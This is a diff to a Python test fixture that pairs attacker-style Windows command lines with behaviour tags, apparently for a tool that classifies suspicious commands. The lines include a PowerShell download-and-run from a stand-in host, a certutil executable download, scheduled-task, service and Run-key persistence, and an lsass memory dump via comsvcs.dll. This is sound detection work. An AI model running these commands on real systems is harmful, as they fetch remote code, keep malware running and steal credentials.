@@ -9,7 +9,8 @@ from casemate.stages.extract.acts import ACTS, find_acts, statement_around
 SHOWN = [
     ("IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')", {"run-text", "download"}),
     ("certutil -urlcache -split -f http://a.example/a.exe %TEMP%\\a.exe", {"download", "abused-program"}),
-    ("schtasks /create /tn up /tr c:\\a.exe /sc onlogon", {"persist"}),
+    ("schtasks /create /tn up /tr c:\\a.exe /sc onlogon", {"schedule"}),
+    ("sc create up binPath= c:\\a.exe start= auto", {"install-service"}),
     ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b", {"persist", "registry"}),
     ("powershell -w hidden -nop -ep bypass -c whoami", {"hide-window", "discover"}),
     ("rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 lsass.dmp full", {"abused-program", "credentials"}),
